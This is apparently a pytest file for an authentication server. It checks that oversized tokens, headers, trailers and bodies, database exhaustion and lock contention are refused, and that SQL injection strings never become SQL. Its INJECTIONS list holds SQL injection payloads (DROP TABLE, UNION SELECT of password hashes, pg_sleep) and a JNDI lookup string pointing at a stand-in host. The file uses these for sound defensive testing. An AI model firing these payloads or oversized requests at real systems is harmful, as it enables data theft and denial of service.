"""Requests that would keep the server busy or fill it up: each costs whoever sends it more than us.

Each docstring begins with the row of the security requirements that it shows. DL-04 and DL-05 are in `test_odd_requests.py`.
No test asserts a time; where something would never end, the test gives up.
"""

import asyncio
import base64
import contextlib
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import anyio
import pytest
from sqlalchemy import func, insert, select, update
from starlette.types import Receive, Scope, Send
from tests.house import ADA, PASSWORD, PATIENCE, House, Login, open_house
from tests.server import commands, conftest
from tests.services import until
from tests.wired import CLOSING, GOOD, connect, said, wired

from watchword import Settings
from watchword.core import jose
from watchword.flows import upkeep
from watchword.server import wire
from watchword.server.app import create_app
from watchword.stores.sql import engine as sql
from watchword.stores.sql import hot
from watchword.stores.sql.tables import feed, sessions
from watchword.web import device
from watchword.web.client import MAX_USER_AGENT

run = conftest.run


class Decoded:
    """How many characters were decoded from base64 while it watched."""

    def __init__(self) -> None:
        self.characters = 0


@pytest.fixture
def decoded(monkeypatch: pytest.MonkeyPatch) -> Decoded:
    seen = Decoded()
    decode = base64.b64decode

    def count(text: Any, *more: Any, **named: Any) -> bytes:
        seen.characters += len(text)
        return decode(text, *more, **named)

    monkeypatch.setattr(base64, "b64decode", count)
    return seen


async def test_a_token_over_the_bound_is_refused_before_it_is_decoded(house: House, decoded: Decoded) -> None:
    """DL-01: a token of 8 KB and a letter, of a megabyte, of a hundred: to decode and parse it would cost us more than to send
    it costs the attacker. Not a letter of it is decoded, wherever a token may stand."""
    await house.register()
    login = await house.login()
    assert (await house.me(login)).status_code == 200
    before = decoded.characters
    assert before > 0
    head, payload, signature = login.access.split(".")
    for size in (jose.MAX_TOKEN + 1, 10**6, 10**8):
        long = f"{head}.{payload}{'A' * size}.{signature}"
        assert (await house.me(Login(long, login.refresh))).status_code == 401
        assert (await house.try_refresh(long)).status_code == 400
        assert (await house.client.post("/logout", data={"refresh_token": long})).status_code in (401, 413, 422)
        assert (await house.client.post("/logout", headers={"Authorization": f"Bearer {long}"})).status_code == 401
    assert decoded.characters == before


async def test_a_header_of_a_token_over_its_bound_is_refused_before_it_is_decoded(
    house: House, decoded: Decoded
) -> None:
    """DL-01: the header alone may have 2 KB; it names a key, and nothing else."""
    await house.register()
    login = await house.login()
    before = decoded.characters
    _, payload, signature = login.access.split(".")
    answer = await house.me(Login(f"{'e' * (jose.MAX_HEADER + 1)}.{payload}.{signature}", login.refresh))
    assert answer.status_code == 401
    assert decoded.characters == before


OVERSIZED_HEADS = {
    "one long header": b"GET /healthz HTTP/1.1\r\n" + CLOSING + b"X: " + b"a" * 33_000 + b"\r\n\r\n",
    "many headers": b"GET /healthz HTTP/1.1\r\n" + CLOSING + b"X: a\r\n" * 99 + b"\r\n",
    "headers that add up": b"GET /healthz HTTP/1.1\r\n" + CLOSING + (b"X: " + b"a" * 1000 + b"\r\n") * 33 + b"\r\n",
    "a long address": b"GET /healthz?" + b"a" * 33_000 + b" HTTP/1.1\r\n" + CLOSING + b"\r\n",
}


@pytest.fixture
def port(tmp_path: Path, logging_as_before: None) -> Iterator[int]:
    """The stand-alone server of a developer."""
    with wired(create_app(Settings(data_dir=tmp_path / "home"))) as port:
        yield port


@pytest.mark.parametrize("name", OVERSIZED_HEADS)
def test_a_head_over_the_bound_is_refused(port: int, name: str) -> None:
    """DL-02: headers are kept in memory until the last of them has come, and nobody but us decides when that is too much."""
    assert said(port, OVERSIZED_HEADS[name]).startswith(b"HTTP/1.1 431 ")
    assert said(port, GOOD).startswith(b"HTTP/1.1 200 ")


def test_a_header_that_never_ends_is_not_kept(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """DL-02: one header of 64 MB: the server hangs up long before, however much time it would give."""
    monkeypatch.setattr(wire, "HEAD_SECONDS", 600.0)
    with connect(port) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: ")
        with pytest.raises(ConnectionError):
            connection.sendall(b"a" * 2**26)
    assert said(port, GOOD).startswith(b"HTTP/1.1 200 ")


AFTER_THE_HEAD = {"a trailer": b"0\r\nX: ", "a trailer's name": b"0\r\n", "a chunk's extension": b"1;"}


@pytest.mark.parametrize("name", AFTER_THE_HEAD)
def test_what_never_ends_after_the_head_is_not_kept(port: int, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """DL-02, DL-06: a trailer of 64 MB: it is joined together until its line ends, a little slower with each piece, and
    everybody else waits. The server hangs up long before, however much time it would give to a body."""
    monkeypatch.setattr(wire, "BODY_SECONDS", 600.0)
    with connect(port) as connection:
        connection.sendall(b"POST /login HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
        connection.sendall(AFTER_THE_HEAD[name])
        with pytest.raises(ConnectionError):
            connection.sendall(b"a" * 2**26)
    assert said(port, GOOD).startswith(b"HTTP/1.1 200 ")


def test_many_trailers_are_too_many(port: int) -> None:
    """DL-02: trailers are counted with the headers, before there are a hundred of them or 32 KB."""
    head = b"POST /login HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n0\r\n" % CLOSING
    for trailers in (b"X: a\r\n" * 98, (b"X: " + b"a" * 1000 + b"\r\n") * 33):
        assert said(port, head + trailers + b"\r\n").startswith(b"HTTP/1.1 431 ")


def test_a_body_that_comes_piece_by_piece_is_no_trailer() -> None:
    """DL-02: the counterpart: 60 KB of a body, each read by itself, and a trailer behind them."""

    async def echo(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"60")]})
        message = await receive()
        while message["more_body"]:
            await send({"type": "http.response.body", "body": b"." if message["body"] else b"", "more_body": True})
            message = await receive()
        await send({"type": "http.response.body", "body": b""})

    with wired(echo) as port, connect(port) as connection:
        connection.sendall(b"POST / HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n" % CLOSING)
        assert connection.recv(65536).startswith(b"HTTP/1.1 200 ")
        for _ in range(60):
            connection.sendall(b"3e8\r\n" + b"a" * 1000 + b"\r\n")
            assert connection.recv(65536) == b"."
        connection.sendall(b"0\r\nX: a\r\n\r\n")
        assert connection.recv(65536) == b""


def test_a_head_within_the_bound_is_read(port: int) -> None:
    """DL-02: the counterpart: a token of 8 KB, some cookies and a hundred headers are what browsers and proxies send. Two
    requests on one connection are counted each by itself, and a body is no header."""
    head = b"Authorization: Bearer " + b"a" * 8192 + b"\r\nCookie: " + b"a" * 12_000 + b"\r\n" + b"X: a\r\n" * 95
    ask = b"GET /me HTTP/1.1\r\nHost: localhost\r\n" + head + b"\r\n"
    body = b"username=a&password=" + b"b" * 60_000
    form = b"POST /login HTTP/1.1\r\n%bContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%b"
    answers = said(port, ask * 3 + form % (CLOSING, len(body), body))
    assert answers.count(b"HTTP/1.1 401 ") == 3
    assert answers.count(b"HTTP/1.1 400 ") == 1
    assert b"431" not in answers


KINDS = {"json": b"application/json", "form": b"application/x-www-form-urlencoded"}


@pytest.mark.parametrize("framed", ["length", "chunked"])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("path", [b"/register", b"/login", b"/refresh", b"/logout", b"/change-password"])
def test_a_body_over_the_bound_is_refused_before_it_has_come(port: int, path: bytes, kind: str, framed: str) -> None:
    """DL-02: a gigabyte is announced, or none is and it goes on and on. The answer comes after 64 KB, which were not parsed:
    the rest is never sent here. /login and /refresh call it bad credentials, as any others that are not good."""
    frame = b"Content-Length: 1000000000\r\n" if framed == "length" else b"Transfer-Encoding: chunked\r\n"
    request = b"POST %b HTTP/1.1\r\n%bContent-Type: %b\r\n%b\r\n" % (path, CLOSING, KINDS[kind], frame)
    part = b"a" * 70_000
    answer = said(port, request + (part if framed == "length" else b"%x\r\n%b\r\n" % (len(part), part)))
    assert answer.startswith((b"HTTP/1.1 413 ", b"HTTP/1.1 400 "))
    assert (b"invalid_grant" in answer) == (path in (b"/login", b"/refresh") and kind == "form")


def test_no_reader_of_ours_takes_more_than_a_long_text_is_worth() -> None:
    """DL-03: a text of 64 KB that makes a regular expression, a normaliser or a parser try again at each letter: four thousand
    million steps for one request. Every pattern in the package and every reader of what a client sends meets two hundred such
    texts. With one that squares it this would take hours, and the test gives up."""
    program = [sys.executable, str(Path(__file__).parent / "long_texts.py")]
    done = subprocess.run(program, capture_output=True, text=True, timeout=PATIENCE * 10, check=False)
    assert done.stdout == "linear\n", done.stderr[-2000:]


async def test_a_database_with_no_connection_left_is_told_and_comes_back(
    tmp_path: Path, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DL-06: the attacker holds every connection to the database, by slow queries in another part of the application, say. Who
    comes meanwhile is told 503 and when to come again, nobody is let in unchecked, and afterwards all is as it was."""
    assert sql.POOL_SECONDS <= 5
    monkeypatch.setattr(sql, "POOL_SECONDS", 0.2)
    async with open_house(tmp_path, health=True, database_url=database_url) as house:
        await house.register()
        login = await house.login()
        assert house.auth._home is not None
        async with contextlib.AsyncExitStack() as held:
            engine = house.auth._home.db.engine
            await house.written()
            house.let_go()  # what is kept is as many as the pool has, and no other part of the application comes by it
            for _ in range(engine.pool.size() + engine.pool._max_overflow):  # type: ignore[attr-defined]
                await held.enter_async_context(engine.connect())
            refused = [
                await house.try_login(),
                await house.try_refresh(login.refresh),
                await house.client.get("/sessions", headers=login.headers),
                await house.client.post("/logout", headers=login.headers),
                await house.client.get("/readyz"),
            ]
            assert {answer.status_code for answer in refused} == {503}
            assert all("retry-after" in answer.headers for answer in refused[:-1])
            assert (await house.client.get("/healthz")).status_code == 200
            assert (await house.me(login)).status_code == 503  # its row can't be read
        assert (await house.me(login)).status_code == 200
        again = await house.refresh(login.refresh)
        assert (await house.client.post("/logout", headers=again.headers)).status_code == 204
        assert (await house.client.get("/readyz")).status_code == 200


async def test_a_writer_does_not_wait_for_all_the_waits_before_it(
    tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DL-06: another program holds SQLite's lock. The first writer waits for it for ten seconds and is refused; if the next
    began to wait only then, the hundredth would be answered after a quarter of an hour."""
    monkeypatch.setattr(sql, "BUSY_TIMEOUT_MS", 20_000)
    async with open_house(tmp_path, database_url=sqlite_url) as house:
        await house.register()
        logins = [await house.login() for _ in range(4)]
        monkeypatch.setattr(sql, "TURN_SECONDS", 0.2)
        answers: list[tuple[int, int]] = []
        with contextlib.closing(sqlite3.connect(sqlite_url.removeprefix("sqlite:///"))) as other:
            other.execute("BEGIN IMMEDIATE")
            async with anyio.create_task_group() as group:

                async def log_out(number: int, login: Login) -> None:
                    leaving = house.client.post("/logout", headers=login.headers)
                    answers.append((number, (await leaving).status_code))
                    if len(answers) == 3:  # while one waits for the lock, the others were told
                        other.execute("ROLLBACK")

                for number, login in enumerate(logins):
                    group.start_soon(log_out, number, login)
        assert answers[-1] == (0, 204), "the first waits for the lock, until it has it"
        assert [status for _, status in answers[:-1]] == [503, 503, 503]


async def test_refreshes_wait_for_one_transaction_and_not_for_each_other(
    tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DL-06: the same with refreshes, which are committed together. Those that come while a transaction waits for the lock
    are told after their patience, and leave nothing behind that would be done later without them."""
    monkeypatch.setattr(sql, "BUSY_TIMEOUT_MS", 20_000)
    began = threading.Event()
    do_all = hot._do_all

    def begun(*arguments: Any) -> list[Any]:
        began.set()
        return do_all(*arguments)

    async with open_house(tmp_path, database_url=sqlite_url) as house:
        await house.register()
        first, *others = [await house.login() for _ in range(4)]
        monkeypatch.setattr(hot, "_do_all", begun)
        monkeypatch.setattr(sql, "TURN_SECONDS", 0.2)
        with contextlib.closing(sqlite3.connect(sqlite_url.removeprefix("sqlite:///"))) as other:
            other.execute("BEGIN IMMEDIATE")
            going = asyncio.create_task(house.try_refresh(first.refresh))
            await asyncio.to_thread(began.wait, PATIENCE)
            late = await asyncio.gather(*(house.try_refresh(login.refresh) for login in others))
            assert [answer.status_code for answer in late] == [503, 503, 503]
            other.execute("ROLLBACK")
        assert (await going).status_code == 200
        monkeypatch.setattr(sql, "TURN_SECONDS", 10)
        again = [await house.refresh(login.refresh) for login in others]
        assert {login.refresh.split(".")[1] for login in again} == {"1"}


async def test_dead_rows_are_forgotten_a_few_at_a_time(either: House, monkeypatch: pytest.MonkeyPatch) -> None:
    """DL-07: the attacker signs in and out for days. What is dead is pruned ten rows at a time, with rests between, so that
    nobody waits behind a transaction that deletes a million; the newest row of the feed stays, by which a rewind is known.

    The row wants a million gone within a minute too. That nobody notices it goes before: it takes some hours."""
    await either.register()
    await either.login()
    kit = await either.kit()
    assert either.auth._home is not None
    db = either.auth._home.db
    async with db.write() as connection:
        row = dict((await connection.execute(select(sessions))).mappings().one())
        await connection.execute(insert(sessions), [{**row, "id": f"dead{n}"} for n in range(35)])
        await connection.execute(
            insert(feed), [{"session_id": f"dead{n}", "generation": 0, "expires_at": 1.0} for n in range(35)]
        )
        await connection.execute(
            update(sessions).where(sessions.c.id.like("dead%")).values(closed_at=row["created_at"])
        )
    either.clock.tick(timedelta(hours=3))

    async def left() -> list[int]:
        async with db.read() as connection:
            return [
                (await connection.execute(select(func.count()).select_from(table))).scalar_one()
                for table in (sessions, feed)
            ]

    seen = []

    async def rest(_seconds: float) -> None:
        seen.append(await left())

    monkeypatch.setattr(upkeep, "rest", rest)
    done = await upkeep.run(kit)
    assert (done.sessions, done.revocations) == (35, 35)  # with the first key's own row
    assert seen == [[26, 36], [16, 36], [6, 36], [1, 26], [1, 16], [1, 6]]
    assert await left() == [1, 1]


async def test_what_a_worker_remembers_is_bounded(house: House) -> None:
    """DL-07: a million tokens, user agents or logouts would fill the memory. Of verified tokens the oldest leaves, and its
    owner only pays for a signature; the names of devices and the user agents are cut; ended sessions are forgotten."""
    await house.register()
    kit = await house.kit()
    kit.cache.max_entries = 5
    logins = [await house.login(headers={"User-Agent": f"{n} " + "a" * 100_000}) for n in range(20)]
    for _ in range(2):
        assert [(await house.me(login)).status_code for login in logins] == [200] * 20
    assert len(kit.cache) == 5
    kit.cache.max_bytes = 0
    assert (await house.me(logins[0])).status_code == 200
    assert len(kit.cache) == 0
    listed = await kit.sessions.of_user((await house.me(logins[0])).json()["user_id"], house.clock.now())
    assert {len(one.user_agent or "") for one in listed} == {MAX_USER_AGENT}
    assert device.name.cache_info().maxsize is not None
    assert (await house.client.delete("/sessions", headers=logins[0].headers)).status_code == 204
    revoked = kit.revocations._heard.revoked  # type: ignore[attr-defined]
    assert len(revoked) == 20
    house.clock.tick(timedelta(hours=2))

    async def forgotten() -> bool:
        await upkeep.run(kit)
        return len(revoked) <= 1  # the newest row of the feed stays

    await until(forgotten)  # the feed's thread may bring once more what was just forgotten


INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE watchword_users; --",
    "x' UNION SELECT password_hash FROM watchword_users --",
    '" OR ""="',
    "1) OR (1=1",
    "ada@example.com'/*",
    "\\'; SELECT pg_sleep(60); --",
    "%' OR email LIKE '%",
    "a' || (SELECT value FROM watchword_facts) || '",
    "${jndi:ldap://evil.example}",
    ":email",
    "%(email)s",
    "?",
]


@pytest.mark.parametrize("text", INJECTIONS)
async def test_nothing_that_a_request_carries_becomes_sql(either: House, text: str) -> None:
    """DL-08: quotes, comments, a second statement, a placeholder, in every parameter that reaches a statement. The statement's
    own text is the same for whatever was sent."""
    await either.register()
    login = await either.login()
    encoded = "".join(f"%{byte:02x}" for byte in text.encode())
    with either.statements() as seen:
        for form in (
            {"username": text, "password": PASSWORD},
            {"username": ADA, "password": text},
            {"username": ADA, "password": PASSWORD, "scope": text},
        ):
            answer = await either.client.post("/login", data=form, headers={"User-Agent": text})
            assert answer.status_code in (200, 400)
        await either.try_refresh(text)
        await either.client.post("/register", json={"email": text, "username": text, "password": PASSWORD})
        for path in (f"/sessions/{encoded}", f"/sessions/{'a' * 25}{encoded}"):
            assert (await either.client.delete(path, headers=login.headers)).status_code in (404, 405)
        await either.client.get("/sessions", headers=login.headers, params={"sort": text, "after": text, "limit": text})
    assert seen
    assert not [statement for statement in seen if text in statement and len(text) > 8]
    assert (await either.me(login)).status_code == 200
    assert len((await either.client.get("/sessions", headers=login.headers)).json()) >= 1


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_cursor_carries_no_sql(run: commands.Run, text: str) -> None:
    """DL-08: `--after` is the only cursor there is. It is compared as a text, so it shows who stands behind it in the alphabet
    and nobody else."""
    assert run("users", "add", "zoe@example.com", stdin=f"{PASSWORD}\n").code == 0
    listed = run("users", "list", "--json", "--after", text)
    assert listed.code == 0
    assert ("zoe@example.com" in listed.out) == (text.lower() < "zoe@example.com")
    assert run("users", "list", "--json").out.count("zoe@example.com") == 1
